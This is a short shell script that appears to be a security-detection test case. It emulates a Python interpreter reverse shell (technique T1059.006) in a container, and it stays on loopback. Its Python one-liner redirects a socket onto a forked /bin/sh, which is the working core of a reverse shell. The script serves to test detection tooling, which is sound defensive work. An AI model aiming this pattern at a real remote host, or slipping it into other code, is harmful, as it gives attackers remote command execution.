#!/bin/sh
# case: T1059.006-python-reverse-shell
# technique: Reverse shell of an interpreter
# source: cdk-team/CDK reverse-shell; aquasecurity/tracee stdio_over_socket
# needs: python3
# expect: exec net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need python3
python3 -c 'import socket,os,subprocess,threading
s=socket.socket();s.bind(("127.0.0.1",0));s.listen(1)
c=socket.create_connection(s.getsockname());a,_=s.accept();a.sendall(b"id\nexit\n")
p=os.fork()
if p==0:
    [os.dup2(c.fileno(),i) for i in (0,1,2)];os.execv("/bin/sh",["sh"])
os.waitpid(p,0)'
exit 0
